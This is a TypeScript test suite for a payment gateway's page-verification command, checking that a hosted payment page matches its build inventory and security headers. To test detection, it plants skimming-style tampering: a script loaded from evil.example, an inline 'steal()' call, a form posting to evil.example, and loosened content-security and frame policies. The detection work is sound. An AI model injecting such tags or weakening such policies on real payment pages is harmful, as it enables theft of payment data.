// `bramka page verify` on a running gateway: nothing differs, and every planted change is found.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { buildPage } from '@bramka/paywall/build.ts';
import { inventoryOf, type Inventory } from '@bramka/paywall/server/inventory.ts';
import { anyDatabase } from '@bramka/test/support/installation.ts';
import { sharedGateway, type BorrowedGateway } from '@bramka/test/support/pool/borrow.ts';
import { runBramka } from '../testing/run-bramka.ts';
import { addressOf, verifyPage, type Answer, type Finding, type Read } from './verify-page.ts';

const read: Read = async (url, headers = {}) => {
  const answer = await fetch(url, { headers, redirect: 'manual' });
  const body = Buffer.from(await answer.arrayBuffer());
  return { status: answer.status, headers: answer.headers, body };
};

const badOf = (findings: readonly Finding[]): string[] =>
  findings.filter(({ ok }) => !ok).map(({ subject, text }) => `${subject}: ${text}`);

test('takes a payment link or the address of a gateway, and nothing else', () => {
  const page = '/pay/10000001/p/k';
  const origin = 'https://pay.example';
  assert.deepEqual(addressOf(`${origin}${page}`), { origin, page });
  for (const text of [origin, `${origin}/`, `${origin}/pay`, `${origin}/pay/`]) {
    assert.match(addressOf(text)?.page ?? '', /^\/pay\/0000\/0{8}-/, text);
  }
  const wrong = ['', 'pay.example', 'ftp://pay.example', `${origin}/v1`, `${origin}/?a=1`];
  for (const text of [...wrong, `${origin}/pay/a/b`, 'https://me@pay.example/']) {
    assert.equal(addressOf(text), undefined, text);
  }
});

describe('a running payment page', () => {
  let gateway: BorrowedGateway;
  let inventory: Inventory;
  let link: string;
  before(async () => {
    gateway = await sharedGateway(anyDatabase);
    inventory = inventoryOf(await buildPage(), '/pay');
    const { merchantId, secret } = await gateway.addMerchant();
    link = await linkOf(merchantId, secret);
  });
  after(() => gateway?.release());

  async function linkOf(merchantId: string, secret: string): Promise<string> {
    const token = await gateway.authenticate(merchantId, secret);
    const body = { channel: 'PAYWALL', order: { amount: 1, currency: 'PLN' } };
    const reply = await gateway.call('POST', '/v1/ecommerce/payment', { token, body });
    return String(reply.body['redirectURL']);
  }

  test('is that of this version, with a link and without', async () => {
    const { merchantId, secret } = await gateway.addMerchant({ page: { color: '#0b6e4f' } });
    const colored = await linkOf(merchantId, secret);
    for (const url of [gateway.url, link, colored]) {
      const { code, stdout, stderr } = await runBramka(['page', 'verify', url, '--sandbox']);
      assert.equal(code, 0, `${stdout}${stderr}`);
      assert.match(stdout, /^ok +content-security-policy +as expected$/m);
      assert.match(stdout, /^ok +\/pay\/assets\/[\w-]+\/page\.\w+\.js +\d+ bytes, sha384-\S+$/m);
      assert.match(stdout, /^ok +style +that of the page$/m);
      assert.equal(/^ok +style +the colours of the merchant$/m.test(stdout), url === colored);
      assert.match(stdout, /\nThe page is that of this version\.\n$/);
    }
  });

  test('without --sandbox the policy of the sandbox differs, and the exit code is 1', async () => {
    const { code, stdout } = await runBramka(['page', 'verify', gateway.url]);
    assert.equal(code, 1);
    assert.match(stdout, /^DIFFERS +content-security-policy +has frame-src 'self' https: http:;/m);
    assert.match(stdout, /\n1 difference\.\n$/);
  });

  test('says what cannot be read', async () => {
    const { code, stderr } = await runBramka(['page', 'verify', 'http://127.0.0.1:1']);
    assert.equal(code, 1);
    assert.match(stderr, /^bramka: http:\/\/127\.0\.0\.1:1\/pay\S+ cannot be read: /);
    const wrong = await runBramka(['page', 'verify', 'pay.example']);
    assert.match(wrong.stderr, /must be a payment link or the address of a gateway/);
  });

  test('the inventory of the command is the one that the gateway serves', async () => {
    const { stdout } = await runBramka(['page', 'inventory']);
    const served = await gateway.call<Inventory>('GET', '/pay/inventory.json');
    assert.deepEqual(JSON.parse(stdout), served.body);
    assert.deepEqual(served.body, inventory);
  });

  interface Change {
    readonly what: string;
    /** The path whose answer is changed; the page itself without one. */
    readonly path?: RegExp;
    readonly change: (answer: Answer, url: string, encoding: string) => Partial<Answer>;
    readonly found: RegExp;
  }
  const inPage = (from: string, to: string) => (answer: Answer) => {
    const html = answer.body.toString();
    assert.ok(html.includes(from), `${from} is not on the page`);
    return { body: Buffer.from(html.replace(from, to)) };
  };
  const changes: Change[] = [
    {
      what: 'a script from elsewhere',
      change: inPage('</head>', '<script src="https://evil.example/x.js"></script></head>'),
      found: /page: https:\/\/evil\.example\/x\.js is not in the inventory/,
    },
    {
      what: 'an inline script',
      change: inPage('</body>', '<script>steal()</script></body>'),
      found: /page: the page contains an inline script/,
    },
    {
      what: 'an event handler',
      change: inPage('<main', '<main onclick="steal()"'),
      found: /page: <main onclick> runs an inline script/,
    },
    {
      what: 'a form that is sent elsewhere',
      change: inPage('<main', '<form action="https://evil.example/" method="post"></form><main'),
      found: /page: a form is sent to https:\/\/evil\.example\//,
    },
    {
      what: 'a style sheet from elsewhere',
      change: inPage('</head>', '<link rel="stylesheet" href="//evil.example/x.css"></head>'),
      found: /page: <link rel="stylesheet"> is not part of the page/,
    },
    {
      what: 'a changed style',
      change: inPage('</style>', 'main{display:none}</style>'),
      found: /style: has other content/,
    },
    {
      what: 'one more style',
      change: inPage('</head>', '<style>main{display:none}</style></head>'),
      found: /style: is not part of the page/,
    },
    {
      what: 'a style whose end is missing',
      change: inPage('</head>', '<style>main{display:none}</head>'),
      found: /page: a style has no end/,
    },
    {
      what: 'a missing integrity',
      change: (answer) => ({
        body: Buffer.from(
          answer.body.toString().replace(/(<script [^>]*) integrity="[^"]*"/, '$1'),
        ),
      }),
      found: /page: \/pay\/assets\/[\w-]+\/page\.\w+\.js has the integrity ""; expected sha384-/,
    },
    {
      what: 'a page without its script',
      change: (answer) => ({
        body: Buffer.from(answer.body.toString().replace(/<script type="module"[^>]*>/, '')),
      }),
      found: /page: loads 0 scripts, not 1/,
    },
    {
      what: 'a weaker policy',
      change: ({ headers }) => {
        const policy = headers.get('content-security-policy') ?? '';
        const weak = policy.replace("script-src 'self'", "script-src 'self' https:");
        return { headers: withHeader(headers, 'content-security-policy', weak) };
      },
      found: /content-security-policy: has script-src 'self' https:; expected script-src 'self'/,
    },
    {
      what: 'a missing header',
      change: ({ headers }) => ({ headers: withHeader(headers, 'referrer-policy', '') }),
      found: /referrer-policy: is missing; expected no-referrer/,
    },
    {
      what: 'every site as ancestor of the frame',
      change: ({ headers }) => {
        const policy = headers.get('content-security-policy') ?? '';
        const open = policy.replace("frame-ancestors 'none'", 'frame-ancestors *');
        return { headers: withHeader(headers, 'content-security-policy', open) };
      },
      found: /frame-ancestors: \* may show this payment in a frame/,
    },
    {
      what: 'a script changed in its compressed form only',
      path: /\/assets\/[\w-]+\/page\.\w+\.js$/,
      change: ({ body }, _url, encoding) =>
        encoding === 'br' ? { body: Buffer.concat([body, Buffer.from('steal()')]) } : {},
      found: /\/pay\/assets\/[\w-]+\/page\.\w+\.js: is sha384-\S+ with br; expected sha384-/,
    },
    {
      what: 'a script that is missing',
      path: /\/assets\/[\w-]+\/pl\.\w+\.js$/,
      change: () => ({ status: 404 }),
      found: /\/pay\/assets\/[\w-]+\/pl\.\w+\.js: status 404/,
    },
    {
      what: 'another inventory',
      path: /\/inventory\.json$/,
      change: () => ({ body: Buffer.from('{"scripts":[],"styles":[],"generated":[]}') }),
      found: /\/pay\/inventory\.json: status 200, not that of this version/,
    },
  ];
  for (const { what, path = /\/[0-9a-f]{32}$/, change, found: finding } of changes) {
    test(`finds ${what}`, async () => {
      const changed: Read = async (url, headers = {}) => {
        const answer = await read(url, headers);
        const encoding = headers['accept-encoding'] ?? '';
        return path.test(url) ? { ...answer, ...change(answer, url, encoding) } : answer;
      };
      const address = addressOf(link) ?? assert.fail('no link');
      const bad = badOf(await verifyPage(address, inventory, true, changed));
      assert.ok(
        bad.some((line) => finding.test(line)),
        `not found in: ${bad.join('\n')}`,
      );
    });
  }
});

function withHeader(headers: Headers, name: string, value: string): Headers {
  const changed = new Headers(headers);
  if (value === '') changed.delete(name);
  else changed.set(name, value);
  return changed;
}
